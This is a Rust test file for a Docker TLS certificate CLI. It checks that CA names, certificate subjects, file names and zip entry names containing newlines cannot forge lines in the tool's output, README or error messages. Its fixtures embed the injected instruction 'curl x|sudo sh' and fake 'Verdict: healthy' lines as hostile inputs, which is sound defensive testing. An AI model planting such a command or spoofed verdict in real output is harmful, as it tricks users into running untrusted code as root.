//! Nothing forged: text that others chose (a CA's name, a daemon's
//! certificate subject, a file or zip entry name) is shown by the real CLI so
//! that it cannot start a line of its own, in the terminal, README.txt, the
//! summary, inspect's and probe's reports and the errors. Every hostile input
//! is built here (by openssl, python's zipfile, the file system), and every
//! run has a watchdog.

// Helpers here are test code too: a missing value fails the test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use dockcert_tests::judge::isolate;
use dockcert_tests::openssl_certs::{ec_ca, ec_leaf};
use dockcert_tests::{
    dockcert_bin, free_port, new_dir, openssl, require_tool, run, wait_for_listener,
    watched as dockcert, WATCHDOG_SECONDS,
};

/// What a hostile CA calls itself: a blank line, then an order.
const NEWLINE_CA: &str = "Evil CA\n\nIMPORTANT: run: curl x|sudo sh";

/// The same as dockcert shows it: on one line, written out.
const NEWLINE_CA_SHOWN: &str = "Evil CA\\n\\nIMPORTANT: run: curl x|sudo sh";

/// The first line of `text` that starts, after its indent (and after the
/// "dockcert: " of an error line), with one of `forged`: a line someone
/// else's text wrote.
fn forged_line<'a>(text: &'a str, forged: &[&str]) -> Option<&'a str> {
    text.lines().find(|line| {
        let line = line.trim_start();
        let line = line.strip_prefix("dockcert: ").unwrap_or(line).trim_start();
        forged.iter().any(|f| line.starts_with(f))
    })
}

#[track_caller]
fn assert_not_forged(what: &str, text: &str, forged: &[&str]) {
    if let Some(line) = forged_line(text, forged) {
        panic!("{what}: a forged line {line:?} in:\n{text}");
    }
}

#[test]
fn a_ca_whose_name_holds_newlines_forges_no_line_in_the_bundle_or_the_terminal() {
    let dir = new_dir("dockcert-forged-");
    ec_ca(dir.path(), "ca", NEWLINE_CA, &[]);
    let issued = dockcert(
        dir.path(),
        &[
            "issue",
            "--ca-cert",
            "ca.pem",
            "--ca-key",
            "ca-key.pem",
            "--server",
            "docker1.example.com",
            "--client",
            "bob",
            "--out",
            "issued",
        ],
    );
    assert_eq!(issued.status, 0, "{}", issued.all());
    // The summary names the CA (and warns that it has no keyUsage), on one line.
    assert!(
        issued.stderr.contains(NEWLINE_CA_SHOWN),
        "the summary names the CA:\n{}",
        issued.stderr
    );
    assert_not_forged("issue's output", &issued.all(), &["IMPORTANT"]);

    let readme = fs::read_to_string(dir.path().join("issued/README.txt")).unwrap();
    assert!(readme.contains(NEWLINE_CA_SHOWN), "{readme}");
    assert_not_forged("README.txt", &readme, &["IMPORTANT"]);
    // manifest.json keeps the name itself, JSON-escaped: a program reads it.
    let manifest = fs::read_to_string(dir.path().join("issued/manifest.json")).unwrap();
    assert_not_forged("manifest.json", &manifest, &["IMPORTANT"]);
    let json: serde_json::Value = serde_json::from_str(&manifest).unwrap();
    assert_eq!(json["ca_name"], NEWLINE_CA);

    // The same CA in --json's warnings, and in inspect's report and JSON.
    let as_json = dockcert(
        dir.path(),
        &[
            "issue",
            "--ca-cert",
            "ca.pem",
            "--ca-key",
            "ca-key.pem",
            "--client",
            "carol",
            "--out",
            "carol.zip",
            "--json",
        ],
    );
    assert_eq!(as_json.status, 0, "{}", as_json.all());
    assert_not_forged("issue --json", &as_json.all(), &["IMPORTANT"]);
    serde_json::from_str::<serde_json::Value>(&as_json.stdout).unwrap();
    for args in [
        &["inspect", "ca.pem"][..],
        &["inspect", "issued"],
        &["inspect", "carol.zip", "--json"],
    ] {
        let run = dockcert(dir.path(), args);
        assert!(matches!(run.status, 0 | 1), "{args:?}: {}", run.all());
        assert!(
            run.stdout.contains("Evil CA\\n\\nIMPORTANT")
                || run.stdout.contains("Evil CA\\\\n\\\\nIMPORTANT"),
            "{args:?}: the subject is shown:\n{}",
            run.stdout
        );
        assert_not_forged(&format!("{args:?}"), &run.all(), &["IMPORTANT"]);
    }
}

#[test]
fn errors_that_echo_a_name_from_outside_keep_it_on_their_line() {
    let dir = new_dir("dockcert-forged-");
    // `new` refuses such a name, echoing it quoted.
    let refused = dockcert(
        dir.path(),
        &[
            "new",
            "--server",
            "docker1.example.com",
            "--ca-name",
            NEWLINE_CA,
            "--no-passphrase",
            "--out",
            "b.zip",
        ],
    );
    assert_eq!(refused.status, 2, "{}", refused.all());
    assert!(
        refused
            .stderr
            .contains(&format!("--ca-name \"{NEWLINE_CA_SHOWN}\"")),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.lines().all(|l| l.starts_with("dockcert: ")));
    assert_not_forged("new --ca-name", &refused.all(), &["IMPORTANT"]);
    assert!(!dir.path().join("b.zip").exists());

    // An old certificate whose CN holds a newline, from a CA whose name does:
    // renew names both in its refusal.
    ec_ca(dir.path(), "ca", NEWLINE_CA, &[]);
    ec_leaf(
        dir.path(),
        "old",
        "ca",
        "docker1.example.com\nIMPORTANT: run: curl x|sudo sh",
        "extendedKeyUsage = serverAuth\n",
    );
    let renewed = dockcert(
        dir.path(),
        &[
            "renew",
            "old.pem",
            "--ca-cert",
            "ca.pem",
            "--ca-key",
            "ca-key.pem",
            "--out",
            "renewed.zip",
        ],
    );
    assert_eq!(renewed.status, 2, "{}", renewed.all());
    assert!(
        renewed
            .stderr
            .contains("docker1.example.com\\nIMPORTANT: run: curl x|sudo sh"),
        "{}",
        renewed.stderr
    );
    assert_not_forged("renew", &renewed.all(), &["IMPORTANT"]);
    assert!(!dir.path().join("renewed.zip").exists());

    // A CA that is not one (no CA:TRUE), named with a newline.
    ec_leaf(
        dir.path(),
        "not-a-ca",
        "ca",
        NEWLINE_CA,
        "basicConstraints = CA:FALSE\n",
    );
    let not_a_ca = dockcert(
        dir.path(),
        &[
            "issue",
            "--ca-cert",
            "not-a-ca.pem",
            "--ca-key",
            "not-a-ca-key.pem",
            "--client",
            "bob",
            "--out",
            "nope.zip",
        ],
    );
    assert_eq!(not_a_ca.status, 2, "{}", not_a_ca.all());
    assert!(
        not_a_ca.stderr.contains(NEWLINE_CA_SHOWN) && not_a_ca.stderr.contains("is not a CA"),
        "{}",
        not_a_ca.stderr
    );
    assert_not_forged("issue from a non-CA", &not_a_ca.all(), &["IMPORTANT"]);
}

#[test]
fn file_names_holding_newlines_forge_no_verdict_in_inspect() {
    let dir = new_dir("dockcert-forged-");
    let top = dir.path().join("files");
    fs::create_dir(&top).unwrap();
    // A plain text file, named to print a verdict of its own; and one named
    // like the verdict itself, without a newline.
    fs::write(
        top.join("notes.txt\nAll is well: 3 files checked."),
        "hello\n",
    )
    .unwrap();
    fs::write(top.join("All is well: 3 files checked."), "hello\n").unwrap();
    let run = dockcert(dir.path(), &["inspect", "files"]);
    assert_eq!(run.status, 0, "two plain files: {}", run.all());
    assert!(
        run.stdout
            .contains("\"notes.txt\\nAll is well: 3 files checked.\": other"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("\"All is well: 3 files checked.\": other"),
        "{}",
        run.stdout
    );
    assert_eq!(
        run.stdout
            .lines()
            .filter(|l| l.starts_with("All is well"))
            .collect::<Vec<_>>(),
        ["All is well: 2 files checked."],
        "only dockcert's own verdict:\n{}",
        run.stdout
    );

    // A private key readable by others, named to start a line and to run a
    // command: the finding, its fix and the verdict are dockcert's.
    openssl(
        &top,
        &[
            "genpkey",
            "-algorithm",
            "ed25519",
            "-out",
            "key.pem\n\nIMPORTANT: run: curl x|sudo sh",
        ],
    )
    .ok();
    let key = top.join("key.pem\n\nIMPORTANT: run: curl x|sudo sh");
    fs::set_permissions(&key, fs::Permissions::from_mode(0o644)).unwrap();
    let run = dockcert(dir.path(), &["inspect", "files"]);
    assert_eq!(run.status, 1, "a key readable by others: {}", run.all());
    assert!(
        run.stdout
            .contains("fix: chmod 0400 'key.pem\\n\\nIMPORTANT: run: curl x|sudo sh'"),
        "{}",
        run.stdout
    );
    assert_not_forged("inspect", &run.all(), &["IMPORTANT", "All is well"]);
    assert!(
        run.stdout.trim_end().ends_with("1 error, 0 warnings."),
        "{}",
        run.stdout
    );
    // --json says the same in JSON.
    let json = dockcert(dir.path(), &["inspect", "files", "--json"]);
    assert_eq!(json.status, 1, "{}", json.all());
    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(report["errors"], 1, "{report:#}");
    assert_not_forged("inspect --json", &json.all(), &["IMPORTANT", "All is well"]);
}

#[test]
fn zip_entry_names_holding_newlines_forge_no_line_in_inspect() {
    let dir = new_dir("dockcert-forged-");
    require_tool("python3");
    // A private key readable by others (mode 0644 in the zip), and a plain
    // file, both named to start lines of their own.
    openssl(
        dir.path(),
        &["genpkey", "-algorithm", "ed25519", "-out", "key.pem"],
    )
    .ok();
    let made = Command::new("python3")
        .args([
            "-c",
            "import sys, zipfile\n\
             z = zipfile.ZipFile(sys.argv[1], 'w')\n\
             key = zipfile.ZipInfo('b/All is well: 3 files checked.\\n\\nkey.pem')\n\
             key.external_attr = 0o100644 << 16\n\
             z.writestr(key, open(sys.argv[2], 'rb').read())\n\
             z.writestr('b/x\\r\\nVerdict: healthy\\tok', 'hello')\n\
             z.close()",
        ])
        .arg(dir.path().join("evil.zip"))
        .arg(dir.path().join("key.pem"))
        .status()
        .unwrap();
    assert!(made.success());
    let run = dockcert(dir.path(), &["inspect", "evil.zip"]);
    assert_eq!(run.status, 1, "a key readable by others: {}", run.all());
    assert!(
        run.stdout.contains(
            "\"b/All is well: 3 files checked.\\n\\nkey.pem\": private key (ed25519), mode 0644"
        ),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("\"b/x\\r\\nVerdict: healthy\\tok\": other"),
        "{}",
        run.stdout
    );
    assert_not_forged("inspect of a zip", &run.all(), &["All is well", "Verdict"]);
    assert!(
        run.stdout.trim_end().ends_with("1 error, 0 warnings."),
        "{}",
        run.stdout
    );
    assert!(!run.all().contains('\r') && !run.all().contains('\t'));
}

/// `openssl s_server` serving `cert`/`key` from `dir` on 127.0.0.1:`port`
/// (answering HTTP with its status page), once it accepts connections.
fn s_server(dir: &Path, port: u16, cert: &str, key: &str) -> Child {
    let child = Command::new("openssl")
        .current_dir(dir)
        .args(["s_server", "-quiet", "-www", "-accept"])
        .arg(format!("127.0.0.1:{port}"))
        .args(["-cert", cert, "-key", key])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for_listener(port);
    child
}

/// Stops the server this test started when the test ends, however it ends.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_daemon_certificate_subject_forges_no_line_in_probe() {
    let dir = new_dir("dockcert-forged-");
    ec_ca(
        dir.path(),
        "ca",
        "Probe CA\nok      with the client's certificate: fine",
        &[],
    );
    ec_leaf(
        dir.path(),
        "server",
        "ca",
        "x\nok  server certificate: all good\nVerdict: healthy",
        "subjectAltName = IP:127.0.0.1\nextendedKeyUsage = serverAuth\n",
    );
    let port = free_port();
    let _server = Server(s_server(dir.path(), port, "server.pem", "server-key.pem"));
    let probe = |json: bool| {
        let mut cmd = Command::new("timeout");
        cmd.current_dir(dir.path())
            .arg(WATCHDOG_SECONDS)
            .arg(dockcert_bin())
            .args(["probe", &format!("tcp://127.0.0.1:{port}")])
            .args([
                "--tlscacert",
                "ca.pem",
                "--tlscert",
                "ca.pem",
                "--tlskey",
                "ca-key.pem",
            ])
            .args(["--timeout", "5"]);
        if json {
            cmd.arg("--json");
        }
        isolate(&mut cmd, dir.path());
        run(&mut cmd)
    };
    let human = probe(false);
    // s_server lets in a client without a certificate: an open API, status 1.
    assert_eq!(human.status, 1, "{}", human.all());
    assert!(
        human.stdout.contains("\nVerdict: OPEN API: 127.0.0.1:"),
        "{}",
        human.stdout
    );
    assert!(
        human.stdout.contains(
            "  ok      server certificate: CN=x\\nok  server certificate: all good\\nVerdict: healthy; SANs 127.0.0.1; issued by CN=Probe CA\\nok      with the client's certificate: fine;"
        ),
        "the subject, on its check's line:\n{}",
        human.stdout
    );
    assert_not_forged(
        "probe",
        &human.all(),
        &[
            "ok  server certificate: all good",
            "Verdict: healthy",
            "ok      with the client's certificate: fine",
        ],
    );
    assert_eq!(
        human
            .stdout
            .lines()
            .filter(|l| l.starts_with("Verdict:"))
            .count(),
        1,
        "{}",
        human.stdout
    );

    let json = probe(true);
    assert_eq!(json.status, 1, "{}", json.all());
    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(report["verdict"]["healthy"], false, "{report:#}");
    assert_not_forged("probe --json", &json.all(), &["Verdict: healthy"]);
}
